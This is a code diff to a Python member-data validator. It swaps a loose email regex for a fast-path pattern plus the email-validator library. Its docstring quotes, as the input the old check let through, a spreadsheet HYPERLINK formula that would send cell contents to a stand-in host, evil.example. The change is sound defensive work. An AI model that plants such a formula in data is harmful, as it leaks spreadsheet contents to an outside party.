@@ -9,13 +9,38 @@ from __future__ import annotations
 import re
 from datetime import date
 
+from email_validator import SPECIAL_USE_DOMAIN_NAMES, EmailNotValidError, validate_email
+
 from portal.clock import full_years, today
 from portal.i18n import N_
 
 NAME_RE = re.compile(r"^[A-Za-zА-Яа-яЁё][A-Za-zА-Яа-яЁё' .\-]*$")
 PHONE_RE = re.compile(r"^\+?[\d\s()\-]{5,25}$")
 ID_DOC_NUMBER_RE = re.compile(r"^[0-9A-Za-zА-Яа-яЁё№ \-]{4,40}$")
-EMAIL_RE = re.compile(r"^[^@\s]+@[^@\s]+\.[^@\s]+$")
+# A plain ASCII address: a dot-atom of the usual characters, a domain of letter-digit-hyphen labels (no «--»), a
+# letters-only top-level domain. Every address it matches email-validator accepts too, so the import's hot path
+# (100,000 rows a run) skips the library (~0.1 ms an address) for the common case; anything else is its to judge.
+_PLAIN_EMAIL = re.compile(r"[A-Za-z0-9_+-]+(?:\.[A-Za-z0-9_+-]+)*@"
+                          r"(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.)+[A-Za-z]{2,63}")
+
+
+_SPECIAL_USE = tuple("." + d for d in SPECIAL_USE_DOMAIN_NAMES)  # .local, .test, …: never deliverable
+
+
+def email_is_valid(value: str) -> bool:
+    """Is this an e-mail address (email-validator's syntax rules, no DNS look-up)? Refuses what only looks like
+    one: `=HYPERLINK("http://evil.example/?"&C2&D2,"@x.ru")` passed the old «something@something.something» test."""
+    if not value or len(value) > 254:
+        return False
+    if _PLAIN_EMAIL.fullmatch(value):
+        local, _, domain = value.partition("@")
+        if len(local) <= 64 and "--" not in domain and not ("." + domain.lower()).endswith(_SPECIAL_USE):
+            return True
+    try:
+        validate_email(value, check_deliverability=False)
+    except EmailNotValidError:
+        return False
+    return True
 
 MESSAGES = {
     "last_name": N_("нет фамилии"),
@@ -73,6 +98,6 @@ def check_member(data: dict, *, on: date | None = None) -> dict[str, str]:
     if phone and not (PHONE_RE.match(phone) and 10 <= sum(c.isdigit() for c in phone) <= 15):
         errors["phone"] = N_("неверный номер телефона")
     email = (data.get("email") or "").strip()
-    if email and not EMAIL_RE.match(email):
+    if email and not email_is_valid(email):
         errors["email"] = N_("неверный e-mail")
     return errors
